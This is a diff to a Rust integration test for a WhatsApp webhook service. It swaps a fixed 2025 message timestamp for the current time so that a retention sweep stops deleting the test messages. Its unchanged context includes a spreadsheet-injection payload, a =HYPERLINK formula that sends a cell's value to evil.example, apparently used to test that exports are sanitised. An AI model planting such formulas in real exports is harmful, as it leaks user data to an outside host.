@@ -12,11 +12,17 @@ use crate::support::{ServeProcess, TempHome, wait_until};
 const SECRET: &str = "hostile-secret";
 const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?"&B2,"Rabatt")"#;
 
+/// A recent timestamp: the service's retention sweep at start deletes messages older than their period (a fixed date
+/// from 2025 is past 365 days now, and the test failed whenever the sweep ran after the messages were applied).
+fn now() -> String {
+    chrono::Utc::now().timestamp().to_string()
+}
+
 fn anmelden(from: &str, wamid: &str, profile_name: &str) -> Vec<u8> {
     serde_json::to_vec(&json!({"object": "whatsapp_business_account", "entry": [{"id": "1", "changes": [{"field": "messages",
         "value": {"messaging_product": "whatsapp", "metadata": {"phone_number_id": "1"},
             "contacts": [{"profile": {"name": profile_name}, "wa_id": from}],
-            "messages": [{"from": from, "id": wamid, "timestamp": "1764234000", "type": "text", "text": {"body": "ANMELDEN"}}]}}]}]}))
+            "messages": [{"from": from, "id": wamid, "timestamp": now(), "type": "text", "text": {"body": "ANMELDEN"}}]}}]}]}))
     .unwrap()
 }
 
@@ -79,7 +85,7 @@ fn text_from(from: &str, wamid: &str, profile_name: &str, text: &str) -> Vec<u8>
     serde_json::to_vec(&json!({"object": "whatsapp_business_account", "entry": [{"id": "1", "changes": [{"field": "messages",
         "value": {"messaging_product": "whatsapp", "metadata": {"phone_number_id": "1"},
             "contacts": [{"profile": {"name": profile_name}, "wa_id": from}],
-            "messages": [{"from": from, "id": wamid, "timestamp": "1764234000", "type": "text", "text": {"body": text}}]}}]}]}))
+            "messages": [{"from": from, "id": wamid, "timestamp": now(), "type": "text", "text": {"body": text}}]}}]}]}))
     .unwrap()
 }
 
